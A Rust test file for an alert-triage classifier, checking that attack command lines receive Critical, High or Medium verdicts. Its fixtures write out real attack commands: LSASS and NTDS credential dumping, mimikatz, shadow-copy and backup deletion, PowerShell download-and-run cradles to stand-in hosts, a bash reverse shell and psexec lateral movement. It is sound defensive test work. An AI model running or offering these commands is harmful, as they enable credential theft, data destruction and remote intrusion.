//! Attacks: other tools, spellings and platforms than the rules' own tests.

use serde_json::json;
use vyrox_domain::triage::Verdict;

use crate::{check, line};

#[test]
fn credential_dumping_is_critical() {
    check(
        &[Verdict::Critical],
        &[
            line(
                "high",
                "rundll32.exe",
                r"rundll32.exe C:\windows\system32\comsvcs.dll MiniDump 732 C:\ProgramData\x.bin full",
            ),
            line(
                "high",
                "powershell.exe",
                r#"powershell -c "rundll32 C:\windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).id C:\t\o.dmp full""#,
            ),
            line(
                "medium",
                "pd.exe",
                r"pd.exe -accepteula -r -ma lsass c:\t\z",
            ),
            line(
                "high",
                "x64.exe",
                r"x64.exe --pid 640 --write C:\t\lsass.dmp",
            ),
            line(
                "critical",
                "mimi.exe",
                "mimi.exe privilege::debug sekurlsa::logonPasswords full exit",
            ),
            line(
                "high",
                "cmd.exe",
                r"cmd /c reg.exe SAVE hklm\sam c:\t\s.save /y",
            ),
            line(
                "high",
                "cmd.exe",
                r"cmd.exe /c reg save HKEY_LOCAL_MACHINE\SECURITY sec.hiv",
            ),
            line(
                "medium",
                "ntdsutil.exe",
                r#"ntdsutil.exe "activate instance ntds" ifm "create full c:\t" quit quit"#,
            ),
            line(
                "high",
                "esentutl.exe",
                r"esentutl.exe /y /vss C:\Windows\NTDS\ntds.dit /d C:\t\n.dit",
            ),
            line(
                "high",
                "python3",
                "python3 secretsdump.py -just-dc corp/admin@10.1.1.1",
            ),
            line(
                "high",
                "powershell.exe",
                "powershell IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/Invoke-Mimikatz.ps1'); Invoke-Mimikatz",
            ),
        ],
    );
}

#[test]
fn credential_dumping_without_a_telling_command_line_is_critical() {
    check(
        &[Verdict::Critical],
        &[
            json!({"severity": "critical", "tactics": ["Credential Access"], "techniques": ["OS Credential Dumping"],
                   "process": {"image": "unknown.exe", "command_line": "unknown.exe --go"}}),
            json!({"severity": "high", "tactics": ["Credential Access"], "techniques": ["T1003.001"],
                   "description": "A process read LSASS memory", "process": {"image": "svc.exe"}}),
            json!({"severity": "high", "file": {"path": r"C:\Users\bob\lsass_624.dmp", "name": "lsass_624.dmp"}}),
            json!({"severity": "critical", "process": {"image": "lazagne.exe", "command_line": "lazagne.exe all"}}),
        ],
    );
}

#[test]
fn ransomware_is_critical() {
    check(
        &[Verdict::Critical],
        &[
            line(
                "critical",
                "cmd.exe",
                "cmd.exe /c vssadmin.exe Delete Shadows /All /Quiet & bcdedit /set {default} recoveryenabled no",
            ),
            line(
                "high",
                "WMIC.exe",
                "WMIC.exe shadowcopy where \"ID='{x}'\" delete",
            ),
            line(
                "high",
                "powershell.exe",
                "powershell -c Get-CimInstance Win32_ShadowCopy | Remove-CimInstance",
            ),
            line(
                "medium",
                "vssadmin.exe",
                "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB",
            ),
            line(
                "high",
                "wbadmin.exe",
                "wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0",
            ),
            line(
                "high",
                "bcdedit.exe",
                "bcdedit.exe /set {current} safeboot network",
            ),
            line("high", "cipher.exe", "cipher.exe /w:D:\\"),
            json!({"severity": "high", "title": "LockBit ransomware blocked", "process": {"image": "a.exe"}}),
            json!({"severity": "critical", "tactics": ["Impact"], "techniques": ["T1486"], "process": {"image": "a.exe"}}),
            json!({"severity": "critical", "tactics": ["Impact"], "techniques": ["Data Encrypted for Impact"],
                   "process": {"image": "enc.exe", "command_line": r"enc.exe -path \\fs01\share"}}),
            json!({"severity": "high", "file": {"name": "RESTORE-MY-FILES.txt"}}),
            json!({"severity": "high", "process": {"command_line": "powershell -e dgBzAHMAYQBkAG0AaQBuACAAZABlAGwAZQB0AGUAIABzAGgAYQBkAG8AdwBzACAALwBhAGwAbAA="}}),
        ],
    );
}

#[test]
fn powershell_cradles_are_high() {
    check(
        &[Verdict::High],
        &[
            line(
                "high",
                "powershell.exe",
                "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
            ),
            line(
                "medium",
                "powershell.exe",
                "powershell -nop -w 1 -ec JABjAD0AbgBlAHcALQBvAGIAagBlAGMAdAA=",
            ),
            line(
                "high",
                "powershell.exe",
                "powershell.exe -encodedcommand SQBFAFgA",
            ),
            line(
                "high",
                "powershell.exe",
                "powershell (iwr http://198.51.100.9/a -UseB).Content|iex",
            ),
            line(
                "high",
                "cmd.exe",
                "cmd.exe /c powershell \"irm https://a.example/s.ps1 | iex\"",
            ),
            line(
                "high",
                "pwsh.exe",
                "pwsh -c \"& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('http://a.example')))\"",
            ),
            line(
                "medium",
                "powershell.exe",
                "powershell $w=New-Object System.Net.WebClient;$w.DownloadFile('http://a.example/b.exe','b.exe');Start-Process b.exe",
            ),
            line(
                "high",
                "powershell.exe",
                "powershell \"IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V3JpdGUtSG9zdCBoaQ==')))\"",
            ),
            json!({"severity": "high", "tactics": ["Execution"], "techniques": ["T1059.001"], "user": {"name": "jdoe"},
                   "process": {"image": "powershell.exe", "command_line": "powershell.exe -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0A..."}}),
        ],
    );
}

#[test]
fn remote_execution_is_high() {
    check(
        &[Verdict::High],
        &[
            line(
                "high",
                "psexec.exe",
                r"psexec.exe \\10.0.0.12 -u corp\adm -p pw -s cmd",
            ),
            line(
                "high",
                "PsExec64.exe",
                r"PsExec64.exe -accepteula \\SRV02 powershell",
            ),
            line(
                "medium",
                "tool.exe",
                r"cmd /c C:\Tools\PsExec.exe -i -s \\WS7 cmd.exe",
            ),
            line(
                "high",
                "wmic.exe",
                r#"wmic.exe /user:a /password:b /node:"SRV02" process call create "calc""#,
            ),
            line(
                "high",
                "winrs.exe",
                "winrs.exe -r:http://SRV02:5985 -u:a ipconfig",
            ),
            line(
                "high",
                "powershell.exe",
                "powershell Enter-PSSession -ComputerName SRV02",
            ),
            line(
                "high",
                "schtasks.exe",
                "SCHTASKS /S SRV02 /CREATE /TN a /TR b.exe /SC ONSTART",
            ),
            line("high", "sc.exe", r"sc \\SRV02 start svcx"),
            line(
                "high",
                "cmd.exe",
                r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\C$\__1700000000 2>&1",
            ),
            json!({"severity": "high", "tactics": ["Lateral Movement"], "techniques": ["T1021.002"], "process": {"image": "psexec.exe"}}),
            json!({"severity": "high", "process": {"image": "cmd.exe", "command_line": "cmd.exe"}, "parent": {"image": "PSEXESVC.exe"}}),
        ],
    );
}

#[test]
fn other_attacks_are_at_least_for_a_person() {
    check(
        &[Verdict::Medium, Verdict::High, Verdict::Critical],
        &[
            line(
                "medium",
                "mshta.exe",
                "mshta vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"calc\"\"\")",
            ),
            line(
                "medium",
                "certutil.exe",
                "certutil -f -urlcache https://a.example/a a.exe",
            ),
            line(
                "medium",
                "schtasks.exe",
                r"schtasks /create /tn a /tr C:\Users\Public\a.exe /sc minute /f",
            ),
            line("medium", "net.exe", "net user /add eve P4ss"),
            line("medium", "wevtutil.exe", "wevtutil.exe clear-log System"),
            line("medium", "rclone.exe", "rclone sync E:\\hr b2:bucket"),
            line("low", "xmrig.exe", "xmrig.exe -o pool:443"),
            line("medium", "nltest.exe", "nltest /dclist:corp"),
            line("medium", "AnyDesk.exe", "AnyDesk.exe"),
            line("high", "bash", "bash -i >& /dev/tcp/10.0.0.9/9001 0>&1"),
            line("high", "sh", "sh -c wget -qO- http://a.example/i.sh | sh"),
            line("unknown", "weird.exe", "weird.exe"),
            json!({"severity": "high", "techniques": ["T1055"], "process": {"image": "explorer.exe"}}),
            json!({"severity": "critical", "title": "Something new"}),
        ],
    );
}

const SPELLINGS: &[(&str, &str)] = &[
    ("rundll32.exe", r"rundll32 comsvcs,#+000024 700 C:\x full"),
    ("sqldumper.exe", "sqldumper.exe 700 0 0x01100:40"),
    (
        "dumpminitool.exe",
        r"DumpMinitool.exe --file C:\x.dmp --processId 700 --dumpType Full",
    ),
    (
        "diskshadow.exe",
        r"diskshadow /s C:\t\s.txt && copy z:\windows\ntds\ntds.dit c:\t",
    ),
    (
        "esxcli",
        "esxcli --formatter=csv vm process list | xargs esxcli vm process kill --type=force",
    ),
    (
        "powershell.exe",
        "powershell -c \"gwmi Win32_ShadowCopy | % { $_.Delete() }\"",
    ),
    ("cmd.exe", "cmd /c \"vss\"\"admin\" delete shadows /all"),
    (
        "wmic.exe",
        "wmic /node:@hosts.txt process call create \"a.exe\"",
    ),
    (
        "powershell.exe",
        "powershell -En SQBFAFgAIAAkAGEAYgBjAGQAZQA=",
    ),
    (
        "powershell.exe",
        "powershell $x=(New-Object -ComObject Msxml2.XMLHTTP);$x.open('GET','http://a.example');iex $x.responseText",
    ),
    (
        "cmd.exe",
        "cmd /c start /b powershell . (nslookup -q=txt a.example); IEX (curl http://a.example/x)",
    ),
    (
        "reg.exe",
        r"reg add HKLM\SYSTEM\CurrentControlSet\Services\x /v ImagePath /d C:\Users\Public\x.exe",
    ),
    (
        "powershell.exe",
        "powershell Add-MpPreference -ExclusionPath C:\\",
    ),
    (
        "installutil.exe",
        "regsvr32.exe -s -u -n -i:https://a.example/x scrobj.dll",
    ),
    (
        "python",
        "python3 -c \"import pty,socket;s=socket.socket();pty.spawn('/bin/bash')\"",
    ),
];

#[test]
fn other_tools_and_spellings_are_classified() {
    let alerts: Vec<_> = SPELLINGS
        .iter()
        .map(|(image, command_line)| line("high", image, command_line))
        .collect();
    check(&[Verdict::High, Verdict::Critical], &alerts);
}
